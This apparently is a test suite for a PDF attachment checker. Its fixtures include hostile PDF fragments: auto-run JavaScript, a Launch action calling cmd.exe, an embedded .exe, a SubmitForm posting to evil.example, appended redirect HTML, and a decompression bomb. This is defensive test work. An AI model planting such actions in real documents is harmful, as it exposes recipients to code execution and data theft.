import zlib from "zlib"
import PDFDocument from "pdfkit"
import { scannedPage } from "../../../test/generated-photo"
import { buildPdf, freezingPdf, PAGE_OBJECTS, pdfWithHiddenObject, stream } from "../../../test/pdf-files"
import { inspectAttachment } from "../attachment-check"
import { checkPdfStructure, OBJECT_STREAMS_MAX_BYTES } from "./pdf-check"

const [CATALOG, ...REST] = PAGE_OBJECTS
const withCatalog = (entries: string) => [CATALOG.replace(" >>", ` ${entries} >>`), ...REST]
const JS_ACTION = "<< /Type /Action /S /JavaScript /JS (app.alert\\('hola'\\)) >>"

/** A scanned page as a phone or a scanner makes it: a full-page JPEG, written by pdfkit. */
async function scannedPdf(): Promise<Buffer> {
  const scan = await scannedPage()
  return new Promise((resolve) => {
    const document = new PDFDocument({ size: "A4", margin: 0, info: { Title: "Remito escaneado" } })
    const chunks: Buffer[] = []
    document.on("data", (chunk: Buffer) => chunks.push(chunk))
    document.on("end", () => resolve(Buffer.concat(chunks)))
    document.image(scan, 0, 0, { width: 595 })
    document.addPage().image(scan, 0, 0, { width: 595 })
    document.end()
  })
}

describe("checkPdfStructure: what people send", () => {
  it("accepts a scanned PDF, a plain one, one with object streams and one updated incrementally", async () => {
    const scanned = await scannedPdf()
    expect(scanned.length).toBeGreaterThan(100_000)
    expect(await inspectAttachment(scanned)).toEqual({ ok: true, format: "pdf" })
    expect(checkPdfStructure(buildPdf(PAGE_OBJECTS))).toBeNull()
    const packed = buildPdf(withCatalog("/Outlines 7 0 R"), { packed: ["<< /Type /Outlines /Count 0 >>"] })
    expect(checkPdfStructure(packed)).toBeNull()
    const updated = buildPdf(PAGE_OBJECTS, {
      update: { 5: "<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>" },
    })
    expect(checkPdfStructure(updated)).toBeNull()
  })
  it("accepts links, named actions and trailing whitespace or NULs", () => {
    const link = "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://vigia.com.ar) >> >>"
    expect(checkPdfStructure(buildPdf([...withCatalog("/OpenAction [3 0 R /Fit]"), link]))).toBeNull()
    expect(checkPdfStructure(buildPdf(withCatalog("/OpenAction << /S /Named /N /Print >>")))).toBeNull()
    expect(checkPdfStructure(buildPdf(PAGE_OBJECTS, { appended: "\r\n\0\0\0  \n" }))).toBeNull()
  })
})

describe("checkPdfStructure: documents that lie", () => {
  it("refuses JavaScript run on opening, in the names tree, in an annotation or a page's actions", () => {
    const cases = [
      buildPdf([...withCatalog("/OpenAction 6 0 R"), JS_ACTION]),
      buildPdf(withCatalog(`/OpenAction ${JS_ACTION}`)),
      buildPdf([...withCatalog("/Names << /JavaScript 6 0 R >>"), "<< /Names [(a) 7 0 R] >>", JS_ACTION]),
      buildPdf([...withCatalog("/AA << /WC 6 0 R >>"), JS_ACTION]),
      buildPdf([
        ...PAGE_OBJECTS,
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS 7 0 R >> >>",
        stream("app.launchURL('x')"),
      ]),
      // The name written with #xx escapes, as a hostile writer would.
      buildPdf(withCatalog("/OpenAction << /S /J#61vaScript /J#53 (x) >>")),
    ]
    for (const pdf of cases) expect(checkPdfStructure(pdf)).toBe("attachmentUnsafe")
  })
  it("refuses JavaScript packed in an object stream", () => {
    const pdf = buildPdf(withCatalog("/OpenAction 7 0 R"), { packed: [JS_ACTION] })
    expect(checkPdfStructure(pdf)).toBe("attachmentUnsafe")
  })
  it("refuses a Launch action and embedded files", () => {
    const launch = "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    expect(checkPdfStructure(buildPdf(withCatalog(`/OpenAction ${launch}`)))).toBe("attachmentUnsafe")
    const embedded = [
      ...withCatalog("/Names << /EmbeddedFiles << /Names [(factura.exe) 6 0 R] >> >>"),
      "<< /Type /Filespec /F (factura.exe) /EF << /F 7 0 R >> >>",
      stream("MZ\x90\x00", "/Type /EmbeddedFile"),
    ]
    expect(checkPdfStructure(buildPdf(embedded))).toBe("attachmentUnsafe")
    expect(checkPdfStructure(buildPdf([...PAGE_OBJECTS, stream("MZ", "/Type /EmbeddedFile")]))).toBe("attachmentUnsafe")
  })
  it("refuses content after the last %%EOF, even when it ends with a trailer of its own", async () => {
    const html = "<html><body><script>document.location='https://evil.example'</script></body></html>\n"
    expect(checkPdfStructure(buildPdf(PAGE_OBJECTS, { appended: html }))).toBe("attachmentUnsafe")
    const disguised = buildPdf(PAGE_OBJECTS, { appended: `${html}startxref\n9\n%%EOF\n` })
    expect(checkPdfStructure(disguised)).toBe("attachmentUnsafe")
    expect(await inspectAttachment(disguised)).toEqual({ ok: false, code: "attachmentUnsafe" })
    const zip = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(40)])
    expect(checkPdfStructure(buildPdf(PAGE_OBJECTS, { appended: zip }))).toBe("attachmentUnsafe")
    const between = buildPdf(PAGE_OBJECTS, { betweenRevisions: html, update: { 5: "<< /Type /Font >>" } })
    expect(checkPdfStructure(between)).toBe("attachmentUnsafe")
  })
  it(`refuses object streams that unpack past ${OBJECT_STREAMS_MAX_BYTES / 1024 / 1024} MB, without unpacking them whole`, () => {
    const zeros = zlib.deflateSync(Buffer.alloc(OBJECT_STREAMS_MAX_BYTES + 1024))
    const bomb = stream(zeros, `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`)
    const started = Date.now()
    expect(checkPdfStructure(buildPdf([...PAGE_OBJECTS, bomb]))).toBe("attachmentUnsafe")
    expect(Date.now() - started).toBeLessThan(2000)
  })
  it("refuses an encrypted file whose object streams it cannot read, and damaged structure", () => {
    const encrypted = buildPdf(withCatalog("/Outlines 8 0 R"), {
      packed: ["<< /Type /Outlines /Count 0 >>"],
      trailer: "/Encrypt << /Filter /Standard /V 4 /R 4 >>",
    })
    expect(checkPdfStructure(encrypted)).toBe("attachmentUnsafe")
    expect(checkPdfStructure(Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog\nendobj\n%%EOF\n"))).toBe(
      "attachmentDamaged",
    )
    const deep = `${"[".repeat(200)}${"]".repeat(200)}`
    expect(checkPdfStructure(buildPdf([...PAGE_OBJECTS, deep]))).toBe("attachmentDamaged")
  })
})

describe("checkPdfStructure: what a reader reaches through the cross-reference table (issue #50)", () => {
  const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
  it("refuses an /OpenAction written where a reading in order sees a comment or a stream's data", () => {
    for (const where of ["comment", "stream"] as const) {
      for (const xrefStream of [false, true]) {
        const pdf = pdfWithHiddenObject([catalog, ...REST], { number: 1, object: catalog, in: where }, { xrefStream })
        expect([where, xrefStream, checkPdfStructure(pdf)]).toEqual([where, xrefStream, "attachmentUnsafe"])
      }
    }
  })
  it("refuses XFA forms and actions that fetch or send data: ImportData, SubmitForm, Launch", () => {
    for (const entries of [
      "/AcroForm << /Fields [] /XFA 6 0 R >>",
      "/OpenAction << /S /ImportData /F (datos.fdf) >>",
      "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
      "/OpenAction << /S /Launch /F (calc.exe) >>",
    ]) {
      expect([entries, checkPdfStructure(buildPdf([...withCatalog(entries), stream("<xdp:xdp/>")]))]).toEqual([
        entries,
        "attachmentUnsafe",
      ])
    }
  })
  it("stops at its deadline on a file that would take seconds to read", () => {
    const started = Date.now()
    expect(checkPdfStructure(freezingPdf(), Date.now() + 200)).toBe("attachmentUnchecked")
    expect(Date.now() - started).toBeLessThan(2000)
  })
})
